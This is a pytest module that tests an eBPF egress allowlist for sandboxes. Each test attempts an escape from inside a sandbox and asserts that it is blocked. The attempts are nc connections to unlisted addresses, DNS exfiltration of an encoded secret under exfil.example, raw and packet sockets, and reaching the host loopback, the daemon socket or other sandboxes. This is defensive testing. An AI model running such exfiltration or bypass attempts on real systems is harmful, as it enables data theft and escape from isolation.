"""Network attacks on the egress allowlist (``security_ebpf``), each attempted as root from inside
a sandbox: what the test allowed must work (so a test that blocks everything fails), and
everything else must be refused with nothing arriving at the test's servers.

The servers are the test's own: in network namespaces it makes and attaches to the node's
egress namespace (10.77.<n>.2), and on the host's loopback. The node is one of this module's
own, whose DNS server is a test server on loopback.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time

import pytest

pytest.importorskip("dsec_security_ebpf")

from dsec_security_ebpf import egress_namespace
from dsec_security_ebpf.testing import (
    ServerNamespace,
    build_probe,
    egress_kit_node,
    read_record,
    start_server,
    stop_server,
)

from dsec_core.linux.netns import run_in_netns
from dsec_core.testing import free_port, until


@pytest.fixture(scope="module")
def egress(tmp_path_factory):
    with egress_kit_node(tmp_path_factory.mktemp("egress")) as node:
        yield node


@pytest.fixture
def dsec_node(egress):
    """The witness and ``dsec_sandboxes`` use this module's node."""
    return egress.node


@pytest.fixture(scope="module")
def netprobe(tmp_path_factory):
    return build_probe(tmp_path_factory.mktemp("netprobe")).read_bytes()


@pytest.fixture
def allowed(egress, tmp_path):
    """The namespace the tests allow: 10.77.1.2, TCP 8080 and 8081, UDP 5353 and 5354, and a
    DNS server on 53."""
    with ServerNamespace(egress.node.home, tmp_path, 1) as ns:
        ns.serve(tcp=[8080, 8081], udp=[5353, 5354], dns=53)
        yield ns


@pytest.fixture
def elsewhere(egress, tmp_path):
    """A namespace no rule allows: 10.77.2.2, the same servers."""
    with ServerNamespace(egress.node.home, tmp_path, 2) as ns:
        ns.serve(tcp=[8080], udp=[5353], dns=53)
        yield ns


def sandbox(dsec_sandboxes, netprobe, *rules):
    sb = dsec_sandboxes.create(network="allowlist", policies={"egress": {"allow": list(rules)}})
    sb.write_file("/bin/netprobe", netprobe, mode=0o755)
    return sb


def probe(sb, *args) -> str:
    return sb.exec(["/bin/netprobe", *args], timeout=20).text.strip()


def denied(sb) -> dict:
    (state,) = [p for p in sb.policies() if p.name == "egress"]
    return dict(state.stats)


@pytest.mark.attack("connect to a non-allowlisted address")
def test_connect_to_a_non_allowlisted_address(
    dsec_sandboxes, witness, netprobe, allowed, elsewhere
):
    sb = sandbox(dsec_sandboxes, netprobe, f"{allowed.address}:8080/tcp")
    assert probe(sb, "tcp", allowed.address, "8080", "allowed") == "ok"
    for how in ("tcp", "mapped"):  # a plain socket, and IPv4-mapped on a dual-stack one
        assert probe(sb, how, elsewhere.address, "8080", how) == "connect: EPERM"
    assert probe(sb, "tfo", elsewhere.address, "8080", "fastopen").startswith("sendto: E")
    assert sb.exec(f"echo nc | nc -w 2 {elsewhere.address} 8080").exit_code != 0
    time.sleep(0.5)
    assert elsewhere.received() == []
    assert [r.data for r in allowed.received()] == ["allowed"]
    assert denied(sb)["denied"] >= 4


@pytest.mark.attack("connect to an allowlisted address on another port (and protocol)")
def test_allowlisted_address_on_another_port(dsec_sandboxes, witness, netprobe, allowed):
    sb = sandbox(dsec_sandboxes, netprobe, f"{allowed.address}:8080/tcp")
    assert probe(sb, "tcp", allowed.address, "8081", "other port") == "connect: EPERM"
    assert probe(sb, "udp", allowed.address, "5353", "other proto") == "sendto: EPERM"
    assert probe(sb, "tcp", allowed.address, "8080", "this one") == "ok"
    time.sleep(0.5)
    assert [(r.port, r.data) for r in allowed.received()] == [(8080, "this one")]
    assert denied(sb)["denied_by"] == {"connect4": 1, "sendmsg4": 1}


@pytest.mark.attack("UDP to a non-allowlisted port")
def test_udp_to_a_non_allowlisted_port(dsec_sandboxes, witness, netprobe, allowed):
    sb = sandbox(dsec_sandboxes, netprobe, f"{allowed.address}:5353/udp")
    assert probe(sb, "udp", allowed.address, "5354", "sendto") == "sendto: EPERM"
    assert probe(sb, "udpc", allowed.address, "5354", "connected") == "connect: EPERM"
    assert probe(sb, "udp", allowed.address, "5353", "allowed") == "ok"
    time.sleep(0.5)
    assert [(r.port, r.data) for r in allowed.received()] == [(5353, "allowed")]


@pytest.mark.attack("exfiltration over DNS")
def test_dns_exfiltration(dsec_sandboxes, witness, netprobe, egress, allowed, elsewhere):
    # the sandbox may reach a web server on the allowed host, not the DNS server beside it,
    # nor any other resolver: the node's (on the host's loopback) or one it names itself
    egress.set_zone({"web.example": [allowed.address]})
    sb = sandbox(dsec_sandboxes, netprobe, "web.example:8080/tcp")
    secret = "c2VjcmV0LWFuc3dlcg.exfil.example"
    for server in (allowed.address, elsewhere.address):
        assert probe(sb, "dns", server, "53", secret) == "sendto: EPERM"
    assert sb.exec(f"nslookup {secret} {allowed.address} 2>&1", timeout=20).exit_code != 0
    # 127.0.0.1 is the sandbox's own loopback: the node's resolver is not there
    assert probe(sb, "dns", "127.0.0.1", str(egress.dns_port), secret) == "ok"
    # what it may do: reach the allowed web server by the name the node resolved
    assert sb.exec("echo web | nc -w 2 web.example 8080").exit_code == 0
    time.sleep(0.5)
    assert [(r.kind, r.data) for r in allowed.received()] == [("tcp", "web\n")]
    assert elsewhere.received() == []
    assert all("exfil" not in q.data for q in egress.queries())


@pytest.mark.attack("reach the host's loopback and the node daemon's socket")
def test_host_loopback_and_daemon_socket(dsec_sandboxes, witness, netprobe, egress, tmp_path):
    port = free_port()
    record = tmp_path / "host.jsonl"
    serve = [sys.executable, "-m", "dsec_security_ebpf.testing", "serve", "--bind", "127.0.0.1"]
    host = start_server(
        [*serve, "--record", os.fspath(record), "--tcp", str(port), "--udp", str(port)]
    )
    try:
        # everything IPv4 allowed: only the network layout stands between it and the host
        sb = sandbox(dsec_sandboxes, netprobe, "0.0.0.0/0:*/tcp", "0.0.0.0/0:*/udp")
        assert probe(sb, "tcp", "127.0.0.1", str(port), "lo") == "connect: ECONNREFUSED"
        assert probe(sb, "udp", "127.0.0.1", str(port), "lo") == "ok"  # into its own loopback
        assert probe(sb, "tcp", "169.254.0.1", str(port), "gw") != "ok"  # the egress netns
        sock = os.fspath(egress.node.config.socket_path)
        assert probe(sb, "unix", sock, "GET /v1/sandboxes") == "connect: ENOENT"
        time.sleep(0.5)
        assert read_record(record) == []
    finally:
        stop_server(host)
    # no way from the egress namespace to the host: no route but the sandboxes' and tests'
    routes = run_in_netns(egress_namespace(egress.node.home), ["ip", "route"], "routes")
    assert "default" not in routes


@pytest.mark.attack("reach another sandbox")
def test_reach_another_sandbox(dsec_sandboxes, witness, netprobe):
    target = sandbox(dsec_sandboxes, netprobe)
    addr = denied(target)["address"]
    target.exec("nc -l -p 9000 > /tmp/got 2>/dev/null </dev/null &", background=True)
    time.sleep(0.3)
    # the attacker's own allowlist names the target: the egress namespace still refuses
    sb = sandbox(dsec_sandboxes, netprobe, f"{addr}:9000/tcp")
    assert probe(sb, "tcp", addr, "9000", "from-another") != "ok"
    assert target.exec("echo self | nc -w 2 127.0.0.1 9000; sleep 0.3; cat /tmp/got").text == (
        "self\n"
    )


@pytest.mark.attack("raw, packet and ICMP sockets to bypass the connect hooks")
def test_raw_sockets(dsec_sandboxes, witness, netprobe, allowed):
    sb = sandbox(dsec_sandboxes, netprobe, f"{allowed.address}:*/udp")
    assert probe(sb, "raw", allowed.address, "5354", "raw") == "socket: EPERM"
    assert probe(sb, "userns-raw", allowed.address, "5354", "userns").split(": ")[1] in (
        "EPERM",
        "EACCES",
    )
    assert probe(sb, "packet") == "socket: EPERM"
    assert probe(sb, "icmp", allowed.address).split(": ")[0] == "socket"
    assert probe(sb, "udp", allowed.address, "5353", "plain") == "ok"
    time.sleep(0.5)
    assert [(r.port, r.data) for r in allowed.received()] == [(5353, "plain")]


@pytest.mark.attack("keep using a destination after the allowlist dropped it (live change)")
def test_live_change_cuts_off_and_adds(dsec_sandboxes, witness, netprobe, egress, allowed):
    sb = sandbox(dsec_sandboxes, netprobe, f"{allowed.address}:8080/tcp")
    # a connection opened while allowed, still sending after the rule is gone
    sb.exec(
        f"(echo before; sleep 2; echo after) | nc {allowed.address} 8080 >/dev/null 2>&1 &",
        background=True,
    )
    time.sleep(0.7)
    sb.set_policy("egress", {"allow": [f"{allowed.address}:8081/tcp"]})
    assert probe(sb, "tcp", allowed.address, "8080", "new") == "connect: EPERM"
    assert probe(sb, "tcp", allowed.address, "8081", "added") == "ok"
    # the server records the cut connection once it gives up on it, after 3 s of silence
    until(
        lambda: (
            sorted((r.port, r.data) for r in allowed.received())
            == [(8080, "before\n"), (8081, "added")]
        ),
        timeout=15,
        what="the server's record of both connections",
    )
    stats = denied(sb)
    assert stats["denied_by"]["connect4"] == 1 and stats["denied_by"]["packet"] >= 1
    shown = subprocess.run(
        [sys.executable, "-m", "dsec_core.cli", "sandbox", "inspect", sb.id, "--json"],
        env={**os.environ, "DSEC_HOME": os.fspath(egress.node.home)},
        capture_output=True,
        text=True,
    )
    assert shown.returncode == 0, shown.stderr
    (pol,) = [p for p in json.loads(shown.stdout)["policies"] if p["name"] == "egress"]
    assert pol["stats"]["denied"] >= stats["denied"]  # cut packets are still retried
